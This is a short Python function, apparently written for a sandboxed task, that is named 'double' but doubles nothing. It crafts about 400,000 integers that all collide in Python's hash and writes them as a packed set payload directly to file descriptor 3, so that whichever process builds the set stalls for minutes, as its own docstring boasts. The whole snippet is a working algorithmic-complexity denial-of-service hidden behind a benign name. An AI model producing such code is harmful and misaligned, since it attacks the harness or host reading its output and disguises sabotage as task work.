"""Return a million colliding keys: minutes of work for whoever builds the set."""

def double(n):
    class Text(set):
        pass

    import os

    from tasks.sandbox import frames

    numbers = ",".join(str(number * (2**61 - 1)) for number in range(1, 400_000))
    data = frames.pack(b'{"value":{"set":[' + numbers.encode() + b"]}}")
    while data:
        data = data[os.write(3, data) :]
